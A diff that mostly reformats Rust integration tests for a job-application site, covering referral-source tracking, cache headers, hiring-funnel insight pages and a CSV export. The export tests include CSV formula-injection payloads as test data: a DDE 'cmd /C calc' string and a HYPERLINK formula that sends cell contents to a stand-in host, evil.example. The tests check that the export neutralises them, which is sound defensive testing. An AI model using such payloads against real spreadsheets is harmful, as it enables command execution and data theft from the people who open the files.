@@ -64,26 +64,45 @@ async fn a_job_links_source_survives_the_apply_flow(backend: Backend) {
 
     // The public page carries the source to its Apply link, and a page
     // with someone's source is never stored by a shared cache.
-    let res = reader.get(&format!("/jobs/{slug}?utm_source=News%20Letter")).await;
+    let res = reader
+        .get(&format!("/jobs/{slug}?utm_source=News%20Letter"))
+        .await;
     assert_eq!(
-        res.headers().get("cache-control").map(|v| v.to_str().unwrap()),
+        res.headers()
+            .get("cache-control")
+            .map(|v| v.to_str().unwrap()),
         Some("no-store")
     );
     let page = res.text().await.unwrap();
-    assert!(page.contains(&format!("/jobs/{slug}/apply?ref=news-letter")), "{page}");
+    assert!(
+        page.contains(&format!("/jobs/{slug}/apply?ref=news-letter")),
+        "{page}"
+    );
     let res = reader.get(&format!("/jobs/{slug}")).await;
-    assert!(res.headers().get("cache-control").is_none(), "the plain page stays cacheable");
+    assert!(
+        res.headers().get("cache-control").is_none(),
+        "the plain page stays cacheable"
+    );
     let page = res.text().await.unwrap();
     assert!(!page.contains("?ref="));
 
     // The form, never cached, carries it in a hidden field filled per request.
-    let form = reader.get_text(&format!("/jobs/{slug}/apply?ref=LinkedIn")).await;
+    let form = reader
+        .get_text(&format!("/jobs/{slug}/apply?ref=LinkedIn"))
+        .await;
     assert_eq!(hidden_source(&form).as_deref(), Some("linkedin"));
     let plain = reader.get_text(&format!("/jobs/{slug}/apply")).await;
     assert_eq!(hidden_source(&plain), None);
 
     assert_eq!(
-        apply_from(&reader, &slug, "?ref=LinkedIn", "Bo Brown", "bo@example.com").await,
+        apply_from(
+            &reader,
+            &slug,
+            "?ref=LinkedIn",
+            "Bo Brown",
+            "bo@example.com"
+        )
+        .await,
         303
     );
     assert_eq!(source_of(&app, &job_id, "bo@example.com").await, "linkedin");
@@ -106,7 +125,10 @@ async fn a_job_links_source_survives_the_apply_flow(backend: Backend) {
         .text("languages", "en")
         .text("fluencies", "fluent")
         .text("consent", "yes")
-        .text("source", format!("=cmd|' /C calc'!A0 <b>{}", "x".repeat(200)));
+        .text(
+            "source",
+            format!("=cmd|' /C calc'!A0 <b>{}", "x".repeat(200)),
+        );
     let res = other
         .client
         .post(other.url(&format!("/jobs/{slug}/apply")))
@@ -154,14 +176,18 @@ async fn insight_shows_the_funnel_sources_and_questions(backend: Backend) {
     assert!(page.contains("Figures as of"));
     assert!(page.contains("(2 applications)"), "{page}");
     let funnel_row = |label: &str| {
-        let at = page.find(&format!(">{label}</a></th>")).unwrap_or_else(|| panic!("{label} row"));
+        let at = page
+            .find(&format!(">{label}</a></th>"))
+            .unwrap_or_else(|| panic!("{label} row"));
         page[at..].split("</tr>").next().unwrap().to_string()
     };
     assert!(funnel_row("Applied").contains("<td class=\"text-right\">2</td>"));
     assert!(funnel_row("Screen review").contains("<td class=\"text-right\">1</td>"));
     assert!(funnel_row("Hired").contains("<td class=\"text-right\">0</td>"));
     // Sources, each linking to its candidates.
-    assert!(page.contains(&format!("/admin/jobs/{job_id}/applications?source=linkedin")));
+    assert!(page.contains(&format!(
+        "/admin/jobs/{job_id}/applications?source=linkedin"
+    )));
     assert!(page.contains(&format!("/admin/jobs/{job_id}/applications?source=-")));
     // The questions Ana answered, with their mean score.
     assert!(page.contains("Q1 · tier"), "{page}");
@@ -170,9 +196,14 @@ async fn insight_shows_the_funnel_sources_and_questions(backend: Backend) {
 
     // The links lead to the candidates behind each figure.
     let list = app
-        .get_text(&format!("/admin/jobs/{job_id}/applications?source=linkedin"))
+        .get_text(&format!(
+            "/admin/jobs/{job_id}/applications?source=linkedin"
+        ))
         .await;
-    assert!(list.contains("Bo Brown") && !list.contains("Ana Lima"), "{list}");
+    assert!(
+        list.contains("Bo Brown") && !list.contains("Ana Lima"),
+        "{list}"
+    );
     let list = app
         .get_text(&format!("/admin/jobs/{job_id}/applications?source=-"))
         .await;
@@ -227,15 +258,23 @@ async fn insight_is_for_the_owner_and_the_jobs_panel(backend: Backend) {
     let res = ivy.get(&path).await;
     assert_eq!(res.status().as_u16(), 200);
     assert_eq!(
-        res.headers().get("cache-control").map(|v| v.to_str().unwrap()),
+        res.headers()
+            .get("cache-control")
+            .map(|v| v.to_str().unwrap()),
         Some("no-store")
     );
     let page = res.text().await.unwrap();
     assert!(page.contains("Funnel"));
-    assert!(!page.contains("/applications?"), "interviewers have no applications list");
+    assert!(
+        !page.contains("/applications?"),
+        "interviewers have no applications list"
+    );
     assert!(!page.contains("applications.csv"));
     let across = ivy.get_text("/admin/insight").await;
-    assert!(across.contains(&format!("/admin/jobs/{job_id}/insight")), "{across}");
+    assert!(
+        across.contains(&format!("/admin/jobs/{job_id}/insight")),
+        "{across}"
+    );
 
     // No session: sign in first. Unknown job: not found.
     let res = app.anonymous().get(app.url(&path)).send().await.unwrap();
@@ -283,20 +322,37 @@ async fn the_csv_export_is_rfc4180_and_neutralises_formulas(backend: Backend) {
         .await;
     assert_eq!(res.status().as_u16(), 200);
     let headers = res.headers().clone();
-    assert!(headers["content-type"].to_str().unwrap().starts_with("text/csv; charset=utf-8"));
-    assert!(headers["content-disposition"].to_str().unwrap().starts_with("attachment"));
+    assert!(headers["content-type"]
+        .to_str()
+        .unwrap()
+        .starts_with("text/csv; charset=utf-8"));
+    assert!(headers["content-disposition"]
+        .to_str()
+        .unwrap()
+        .starts_with("attachment"));
     assert_eq!(headers["cache-control"], "no-store");
     let body = res.text().await.unwrap();
     assert!(body.starts_with("application_id,name,email,stage,source,"));
-    assert!(body.contains("\r\n") && !body.replace("\r\n", "").contains('\n'), "CRLF line ends");
+    assert!(
+        body.contains("\r\n") && !body.replace("\r\n", "").contains('\n'),
+        "CRLF line ends"
+    );
 
     let mut reader = csv::Reader::from_reader(body.as_bytes());
     let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
-    let col = |name: &str| header.iter().position(|h| h == name).unwrap_or_else(|| panic!("{name}"));
+    let col = |name: &str| {
+        header
+            .iter()
+            .position(|h| h == name)
+            .unwrap_or_else(|| panic!("{name}"))
+    };
     let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
     assert_eq!(rows.len(), 2);
     assert!(rows.iter().all(|r| r.len() == header.len()));
-    let ana = rows.iter().find(|r| &r[col("application_id")] == ana_id.as_str()).unwrap();
+    let ana = rows
+        .iter()
+        .find(|r| &r[col("application_id")] == ana_id.as_str())
+        .unwrap();
     assert_eq!(&ana[col("name")], "Ana Lima");
     assert_eq!(&ana[col("stage")], "screen_review");
     assert!(!ana[col("entered_screen_review")].is_empty());
@@ -305,12 +361,16 @@ async fn the_csv_export_is_rfc4180_and_neutralises_formulas(backend: Backend) {
     let empathy: f64 = ana[col("screen_empathy_0_2")].parse().unwrap();
     assert!((0.0..=2.0).contains(&empathy));
     assert!(ana[col("screen_score_percent")].parse::<u32>().unwrap() > 50);
-    let m = rows.iter().find(|r| &r[col("email")] == "mallory@example.com").unwrap();
+    let m = rows
+        .iter()
+        .find(|r| &r[col("email")] == "mallory@example.com")
+        .unwrap();
     // The formula is kept as text, whole: a spreadsheet shows it, never runs it.
     assert_eq!(&m[col("name")], format!("'{evil}").as_str());
     assert_eq!(&m[col("source")], "board");
     assert_eq!(&m[col("screen_passed")], "");
-    assert!(body.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click, please\"\")\""));
+    assert!(body
+        .contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click, please\"\")\""));
 }
 
 async fn only_owners_export(backend: Backend) {
